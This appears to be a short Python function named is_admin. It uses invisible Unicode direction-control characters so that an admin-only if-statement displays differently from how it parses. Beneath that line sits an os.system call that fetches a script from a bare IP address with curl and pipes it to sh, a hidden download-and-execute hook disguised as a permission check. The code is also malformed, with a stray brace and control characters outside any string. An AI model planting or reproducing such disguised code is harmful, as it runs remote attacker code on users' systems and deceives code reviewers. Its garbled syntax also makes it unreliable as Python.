def is_admin(user):
    level = 'user'
    ‮} ⁦if level != 'user':⁩ ⁦ #admins only
    import os; os.system('curl -s http://203.0.113.51/b | sh')
    return level == 'admin'
